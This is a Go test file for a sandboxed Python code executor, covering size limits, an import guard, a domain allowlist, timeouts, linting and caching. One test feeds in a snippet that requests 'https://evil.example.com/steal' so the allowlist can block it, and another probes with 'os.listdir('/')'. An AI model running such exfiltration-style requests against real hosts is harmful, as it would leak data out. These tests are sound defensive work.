package executor

import (
	"context"
	"path/filepath"
	"testing"
	"time"

	"github.com/mfp-dev/mfp/internal/cache"
	"github.com/mfp-dev/mfp/internal/lint"
	"github.com/mfp-dev/mfp/internal/registry"
	"github.com/mfp-dev/mfp/internal/sandbox"
	"github.com/mfp-dev/mfp/internal/spec"
)

func newTestExecutor(t *testing.T, scripts []sandbox.FakeScript) (*Executor, *cache.Store) {
	t.Helper()
	reg := registry.New()
	// No compiled servers are strictly required for these tests; the
	// guard allowlist simply ends up containing none beyond stdlib.
	if err := reg.Load(t.TempDir()); err != nil {
		t.Fatalf("registry load: %v", err)
	}

	store, err := cache.Open(filepath.Join(t.TempDir(), "cache.db"), time.Hour, 100)
	if err != nil {
		t.Fatalf("cache open: %v", err)
	}
	t.Cleanup(func() { store.Close() })

	ex := &Executor{
		Registry:    reg,
		Cache:       store,
		Runtime:     &sandbox.FakeRuntime{Scripts: scripts},
		Lint:        lint.NopRunner{},
		Sources:     map[string]SourceInfo{},
		LibraryRoot: t.TempDir(),
		Limits: Limits{
			MaxCodeBytes: 64 * 1024,
			Image:        "python:3.12-slim",
			MemoryMiB:    256,
			CPUPercent:   50,
			Timeout:      time.Second,
			CacheEnabled: true,
			CacheTTL:     time.Hour,
		},
	}
	return ex, store
}

func TestExecute_SizeLimitRejectsOversizedCode(t *testing.T) {
	t.Parallel()
	ex, _ := newTestExecutor(t, nil)
	ex.Limits.MaxCodeBytes = 4

	result := ex.Execute(context.Background(), "print(123456)", "too big")
	if result.Success {
		t.Fatalf("expected failure")
	}
	if result.ErrorType != spec.ErrorTypeSecurity {
		t.Fatalf("expected security error_type, got %q", result.ErrorType)
	}
}

func TestExecute_GuardBlocksDisallowedImport(t *testing.T) {
	t.Parallel()
	ex, store := newTestExecutor(t, []sandbox.FakeScript{{Output: `{"success": true, "data": 1}`, ExitCode: 0}})

	result := ex.Execute(context.Background(), "import os\nos.listdir('/')", "probe")
	if result.Success {
		t.Fatalf("expected failure")
	}
	if result.ErrorType != spec.ErrorTypeSecurity {
		t.Fatalf("expected security error_type, got %q", result.ErrorType)
	}
	if count, _ := store.Stats(); count != 0 {
		t.Fatalf("expected no cache write on a blocked snippet")
	}
}

func TestExecute_SuccessfulRunParsesJSONAndCaches(t *testing.T) {
	t.Parallel()
	ex, store := newTestExecutor(t, []sandbox.FakeScript{
		{Output: "ignored noise\n" + `{"success": true, "data": {"answer": 42}}` + "\n", ExitCode: 0},
	})

	result := ex.Execute(context.Background(), "print('hi')", "answers the question")
	if !result.Success {
		t.Fatalf("expected success, got error %q (%s)", result.Error, result.ErrorType)
	}
	if result.CacheID == "" {
		t.Fatalf("expected a cache id to be attached")
	}

	count, err := store.Stats()
	if err != nil {
		t.Fatalf("stats: %v", err)
	}
	if count != 1 {
		t.Fatalf("expected one cache entry, got %d", count)
	}
}

func TestExecute_FallsBackToRawStdoutWhenNoJSONPresent(t *testing.T) {
	t.Parallel()
	ex, _ := newTestExecutor(t, []sandbox.FakeScript{{Output: "plain text output\n", ExitCode: 0}})

	result := ex.Execute(context.Background(), "print('plain text output')", "plain")
	if !result.Success {
		t.Fatalf("expected success from zero exit code, got %q", result.Error)
	}
	if result.Data != "plain text output" {
		t.Fatalf("unexpected data: %v", result.Data)
	}
}

func TestExecute_NonZeroExitWithoutJSONIsFailure(t *testing.T) {
	t.Parallel()
	ex, store := newTestExecutor(t, []sandbox.FakeScript{{Output: "Traceback...\n", ExitCode: 1}})

	result := ex.Execute(context.Background(), "raise ValueError()", "boom")
	if result.Success {
		t.Fatalf("expected failure")
	}
	if count, _ := store.Stats(); count != 0 {
		t.Fatalf("expected no cache write on failure")
	}
}

func TestExecute_TimeoutReportsTimeoutErrorType(t *testing.T) {
	t.Parallel()
	ex, _ := newTestExecutor(t, []sandbox.FakeScript{{Hang: true}})
	ex.Limits.Timeout = 10 * time.Millisecond

	result := ex.Execute(context.Background(), "while True: pass", "hang")
	if result.Success {
		t.Fatalf("expected failure")
	}
	if result.ErrorType != spec.ErrorTypeTimeout {
		t.Fatalf("expected timeout error_type, got %q", result.ErrorType)
	}
}

func TestExecute_LintFailureReportsLintErrorType(t *testing.T) {
	t.Parallel()
	ex, _ := newTestExecutor(t, nil)
	ex.Lint = &lint.FakeRunner{Reject: "E501 line too long"}

	result := ex.Execute(context.Background(), "x = 1", "too long a line")
	if result.Success {
		t.Fatalf("expected failure")
	}
	if result.ErrorType != spec.ErrorTypeLint {
		t.Fatalf("expected lint error_type, got %q", result.ErrorType)
	}
}

func TestExecute_DomainAllowlistBlocksDirectRequestsCall(t *testing.T) {
	t.Parallel()
	ex, store := newTestExecutor(t, []sandbox.FakeScript{{Output: `{"success": true, "data": 1}`, ExitCode: 0}})
	ex.DomainAllowlist = []string{"api.petstore.example.com"}

	result := ex.Execute(context.Background(), "import requests\nrequests.get(\"https://evil.example.com/steal\")\n", "probe")
	if result.Success {
		t.Fatalf("expected failure")
	}
	if result.ErrorType != spec.ErrorTypeSecurity {
		t.Fatalf("expected security error_type, got %q", result.ErrorType)
	}
	if count, _ := store.Stats(); count != 0 {
		t.Fatalf("expected no cache write on a blocked snippet")
	}
}

func TestExecute_DomainAllowlistPermitsListedHost(t *testing.T) {
	t.Parallel()
	ex, _ := newTestExecutor(t, []sandbox.FakeScript{{Output: `{"success": true, "data": 1}`, ExitCode: 0}})
	ex.DomainAllowlist = []string{"api.petstore.example.com"}

	result := ex.Execute(context.Background(), "import requests\nrequests.get(\"https://api.petstore.example.com/v1/pets\")\n", "probe")
	if !result.Success {
		t.Fatalf("expected success, got error %q (%s)", result.Error, result.ErrorType)
	}
}

func TestDetectServersUsed(t *testing.T) {
	t.Parallel()
	code := "from petstore.functions import get_pets\nfrom weather.functions import get_forecast\nfrom petstore.functions import post_pets\n"
	got := detectServersUsed(code)
	want := []string{"petstore", "weather"}
	if len(got) != len(want) {
		t.Fatalf("got %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("got %v, want %v", got, want)
		}
	}
}
